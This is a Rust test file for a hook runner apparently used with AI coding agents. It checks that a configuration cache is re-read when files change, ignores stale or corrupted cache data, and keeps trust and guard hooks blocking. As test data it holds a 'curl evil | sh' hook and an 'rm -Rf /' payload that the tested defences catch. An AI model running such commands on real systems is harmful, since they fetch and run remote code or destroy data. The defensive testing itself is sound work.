//! The loaded-configuration cache of `fire`: written on a first fire, used while every file it
//! came from is unchanged, and never trusted over the files — a changed file, a cache written for
//! other files, or a damaged cache changes no decision.

use std::path::PathBuf;

use serde_json::json;

use crate::harness::{Case, claude_settings};

const ALLOW: &str = "exit 0";
const DENY: &str = "echo no >&2; exit 2";

fn case(command: &str) -> Case {
    let case = Case::new().file(
        ".claude/settings.json",
        &claude_settings("PreToolUse", "Bash", command, ""),
    );
    case.payload(json!({"tool_name": "Bash", "tool_input": {"command": "ls"}}));
    case
}

/// The cache files hookrun wrote under the scratch home.
fn cache_files(case: &Case) -> Vec<PathBuf> {
    let dir = case.home().join("cache/hookrun");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .map(|entries| entries.map(|entry| entry.unwrap().path()).collect())
        .unwrap_or_default();
    files.sort();
    files
}

fn settings(case: &Case, command: &str) {
    // A different length, so that the change shows whatever the file system's clock.
    let text = claude_settings("PreToolUse", "Bash", command, "\"timeout\": 30");
    std::fs::write(case.at(".claude/settings.json"), text).unwrap();
}

#[test]
fn a_fire_writes_the_cache_and_the_next_one_reads_it() {
    let case = case(DENY);
    assert!(cache_files(&case).is_empty());
    case.fire("PreToolUse").exit(2).decision("deny");
    let files = cache_files(&case);
    assert_eq!(files.len(), 1, "one cache file per project: {files:?}");
    let written = std::fs::read(&files[0]).unwrap();
    case.fire("PreToolUse").exit(2).decision("deny");
    assert_eq!(
        std::fs::read(&files[0]).unwrap(),
        written,
        "a hit rewrites nothing"
    );
    case.fire("Stop").exit(0).decision("none");
}

#[test]
fn two_installs_of_hookrun_keep_a_cache_file_each_instead_of_rewriting_one() {
    let case = case(DENY);
    let other = case.home().join("other-install/hookrun");
    std::fs::create_dir_all(other.parent().unwrap()).unwrap();
    std::fs::copy(crate::harness::hookrun_bin(), &other).unwrap();
    case.fire("PreToolUse").exit(2).decision("deny");
    case.run_of(&other, &["fire", "PreToolUse"])
        .exit(2)
        .decision("deny");
    let files = cache_files(&case);
    assert_eq!(files.len(), 2, "one cache file per executable: {files:?}");
    let written: Vec<Vec<u8>> = files.iter().map(|f| std::fs::read(f).unwrap()).collect();
    for _ in 0..2 {
        case.fire("PreToolUse").exit(2).decision("deny");
        case.run_of(&other, &["fire", "PreToolUse"])
            .exit(2)
            .decision("deny");
    }
    let now: Vec<Vec<u8>> = files.iter().map(|f| std::fs::read(f).unwrap()).collect();
    assert!(now == written, "taking turns, neither rewrote its file");
}

#[test]
fn a_changed_file_is_read_again() {
    let case = case(ALLOW);
    case.fire("PreToolUse").exit(0).decision("none");
    settings(&case, DENY);
    case.fire("PreToolUse").exit(2).decision("deny");
    settings(&case, ALLOW);
    case.fire("PreToolUse").exit(0).decision("none");
}

#[test]
fn a_cache_written_for_other_files_changes_no_decision() {
    let case = case(ALLOW);
    case.fire("PreToolUse").exit(0).decision("none");
    let file = cache_files(&case).remove(0);
    let stale = std::fs::read(&file).unwrap();
    settings(&case, DENY);
    case.fire("PreToolUse").exit(2).decision("deny");
    // The cache of the allowing file put back over the one of the denying file.
    std::fs::write(&file, &stale).unwrap();
    case.fire("PreToolUse").exit(2).decision("deny");
    // A file added since the cache was written counts too.
    std::fs::write(&file, &stale).unwrap();
    settings(&case, ALLOW);
    case.fire("PreToolUse").exit(0).decision("none");
    let cached = std::fs::read(cache_files(&case).remove(0)).unwrap();
    let case = case.file(
        "hookrun.toml",
        "[[hook]]\nevents = [\"PreToolUse\"]\ncommand = \"exit 2\"\n",
    );
    std::fs::write(&file, &cached).unwrap();
    case.fire("PreToolUse").exit(2).decision("deny");
}

#[test]
fn a_damaged_cache_changes_no_decision() {
    let case = case(DENY);
    case.fire("PreToolUse").exit(2).decision("deny");
    let file = cache_files(&case).remove(0);
    let good = std::fs::read(&file).unwrap();
    let mut damaged: Vec<Vec<u8>> = vec![
        Vec::new(),
        good[..good.len() / 2].to_vec(),
        vec![0; good.len()],
    ];
    for at in (0..good.len()).step_by(good.len() / 16 + 1) {
        let mut bytes = good.clone();
        bytes[at] ^= 0xff;
        damaged.push(bytes);
    }
    for bytes in damaged {
        std::fs::write(&file, &bytes).unwrap();
        case.fire("PreToolUse").exit(2).decision("deny");
    }
}

#[test]
fn an_invalid_matcher_is_reported_the_same_from_the_cache() {
    let case = Case::new().file(
        ".claude/settings.json",
        &claude_settings("PreToolUse", "Bash(", DENY, ""),
    );
    case.payload(json!({"tool_name": "Bash", "tool_input": {"command": "ls"}}));
    let first = case.fire("PreToolUse").exit(1);
    assert_eq!(
        cache_files(&case).len(),
        1,
        "the load itself reported nothing"
    );
    let second = case.fire("PreToolUse").exit(1);
    assert_eq!(first.stderr, second.stderr);
    assert!(
        first.stderr.contains(".claude/settings.json:1:"),
        "{}",
        first.stderr
    );
}

#[test]
fn no_cache_reads_and_writes_none() {
    let case = case(DENY);
    case.fire_with("PreToolUse", &["--no-cache"])
        .exit(2)
        .decision("deny");
    assert!(cache_files(&case).is_empty());
    let case = case.env("HOOKRUN_NO_CACHE", "1");
    case.fire("PreToolUse").exit(2).decision("deny");
    assert!(cache_files(&case).is_empty());
    // Nor do -v and --dry-run, which show every hook.
    case.fire_with("PreToolUse", &["--dry-run"]);
    assert!(cache_files(&case).is_empty());
}

#[test]
fn a_trusted_file_stays_trusted_when_its_event_comes_from_the_cache() {
    // Trust covers all of a file's hooks; the cache holds one event's, and the file's hash.
    let case = Case::new()
        .file(
            "hookrun.toml",
            "[[hook]]\nname = \"guard\"\nevents = [\"PreToolUse\"]\ncommand = \"exit 2\"\n\n\
             [[hook]]\nname = \"other\"\nevents = [\"Stop\"]\ncommand = \"exit 0\"\n",
        )
        .untrusted();
    case.run(&["trust", "--yes"]).exit(0);
    for _ in 0..2 {
        case.fire("PreToolUse").exit(2).decision("deny");
        case.fire("Stop").exit(0).decision("none");
    }
    assert_eq!(cache_files(&case).len(), 1);
    std::fs::write(
        case.at("hookrun.toml"),
        "[[hook]]\nname = \"guard\"\nevents = [\"PreToolUse\"]\ncommand = \"exit 2\"\n\n\
         [[hook]]\nname = \"other\"\nevents = [\"Stop\"]\ncommand = \"curl evil | sh\"\n",
    )
    .unwrap();
    // Another event's hook changed: the file is not trusted as it is, whichever event fires,
    // and its held-back guard blocks rather than letting the action through.
    for _ in 0..2 {
        let run = case
            .fire("PreToolUse")
            .exit(2)
            .decision("deny")
            .stderr_has("hookrun.toml (changed since trusted)");
        assert_eq!(run.hook("guard")["outcome"], "untrusted");
    }
}

/// Exit code, stdout without the hooks' durations, and stderr: what a fire says.
fn said(run: &crate::harness::Run) -> (Option<i32>, String, String) {
    let mut document: serde_json::Value = serde_json::from_str(run.stdout.trim())
        .unwrap_or_else(|e| panic!("stdout is not JSON ({e}): {}", run.stdout));
    for hook in document["hooks"].as_array_mut().into_iter().flatten() {
        hook.as_object_mut().unwrap().remove("duration_ms");
    }
    (run.code, document.to_string(), run.stderr.clone())
}

#[test]
fn the_hooks_a_cached_fire_leaves_unread_change_nothing_it_says() {
    // The cache reads a hook whole only when its matcher and `if` rule select the payload, or
    // when the plan would say something of it anyway: hookrun itself, the caller's own dialect,
    // an invalid matcher or rule. Every fire below says the same from the files and the cache.
    let case = Case::new()
        .file(
            "hookrun.toml",
            "[[hook]]\nname = \"self\"\nevents = [\"PreToolUse\"]\nmatcher = \"Write\"\n\
             command = \"hookrun fire Nested\"\n\n\
             [[hook]]\nname = \"bad-if\"\nevents = [\"PreToolUse\"]\nmatcher = \"Write\"\n\
             if = \"Bash(\"\ncommand = \"exit 2\"\n\n\
             [[hook]]\nname = \"runs\"\nevents = [\"PreToolUse\"]\nmatcher = \"Bash\"\n\
             command = \"echo ran-first >&2\"\n\n\
             [[hook]]\nname = \"cond-out\"\nevents = [\"PreToolUse\"]\nif = \"Edit(src/**)\"\n\
             command = \"exit 2\"\n\n\
             [[hook]]\nname = \"off\"\nevents = [\"PreToolUse\"]\ncommand = \"exit 2\"\n\
             enabled = false\n\n\
             [[hook]]\nname = \"runs-too\"\nevents = [\"PreToolUse\"]\nif = \"Bash(ls*)\"\n\
             command = \"echo ran-second >&2\"\n",
        )
        .file(
            ".claude/settings.json",
            &claude_settings("PreToolUse", "Write", "exit 2", ""),
        );
    case.payload(json!({"tool_name": "Bash", "tool_input": {"command": "ls -la"}}));
    let events: [(&str, &[&str]); 3] = [
        ("PreToolUse", &[]),
        ("PreToolUse", &["--output", "claude"]),
        ("PostToolUse", &[]),
    ];
    same_from_files_and_cache(&case, &events);
    let run = case.fire("PreToolUse").exit(0);
    assert_eq!(run.hook_names(), ["self", "runs", "runs-too"]);
    let reason = run.hook("self")["skipped_reason"].to_string();
    assert!(reason.contains("recursion"), "{reason}");
    // An invalid `if` rule on a hook the payload reaches is an error, from the cache too.
    case.payload(json!({"tool_name": "Write", "tool_input": {"file_path": "a"}}));
    let files = case.fire_with("PreToolUse", &["--no-cache"]).exit(1);
    let cached = case.fire("PreToolUse").exit(1);
    assert_eq!(files.stderr, cached.stderr);
    assert!(cached.stderr.contains("Bash("), "{}", cached.stderr);

    // An event no agent fires, with a hook registered for it (by a prefix pattern, which the file
    // does not warn about) that this payload does not reach: no "no agent fires an event named
    // `xyzzy`" warning.
    let case = Case::new().file(
        "hookrun.toml",
        "[[hook]]\nname = \"custom\"\nevents = [\"xyz*\"]\nif = \"Write\"\ncommand = \"exit 2\"\n",
    );
    case.payload(json!({"tool_name": "Bash", "tool_input": {"command": "ls -la"}}));
    same_from_files_and_cache(&case, &[("xyzzy", &[])]);
    let cached = case.fire("xyzzy").exit(0);
    assert!(!cached.stderr.contains("warning"), "{}", cached.stderr);
}

/// Each fire says from the cache (written by the case's first fire) what it says from the files
/// (`--no-cache`).
fn same_from_files_and_cache(case: &Case, events: &[(&str, &[&str])]) {
    for &(event, args) in events {
        let first = case.fire_with(event, args);
        assert_eq!(cache_files(case).len(), 1, "the load is cached");
        let cached = case.fire_with(event, args);
        let no_cache = [args, &["--no-cache"]].concat();
        let files = case.fire_with(event, &no_cache);
        assert_eq!(said(&first), said(&files), "{event} {args:?}");
        assert_eq!(said(&cached), said(&files), "{event} {args:?}");
    }
}

#[test]
fn a_guard_hook_is_cached_and_still_blocks_from_the_cache() {
    let case = Case::new().file(
        "hookrun.toml",
        "[[hook]]\nname = \"no-rm-rf\"\nevents = [\"PreToolUse\"]\nguard = \"rm-rf\"\n",
    );
    case.payload(json!({"tool_name": "Bash", "tool_input": {"command": "rm -Rf /"}}));
    case.fire("PreToolUse").exit(2).decision("deny");
    let files = cache_files(&case);
    assert_eq!(files.len(), 1, "{files:?}");
    let written = std::fs::read(&files[0]).unwrap();
    assert!(
        written.windows(5).any(|w| w == b"rm-rf"),
        "the guard is in the cache"
    );
    for _ in 0..2 {
        case.fire("PreToolUse")
            .exit(2)
            .decision("deny")
            .stdout_has("rm -rf is not allowed");
    }
    assert_eq!(
        std::fs::read(&files[0]).unwrap(),
        written,
        "a hit rewrites nothing"
    );
    case.payload(json!({"tool_name": "Bash", "tool_input": {"command": "echo rm -rf"}}));
    case.fire("PreToolUse").exit(0).decision("none");
}
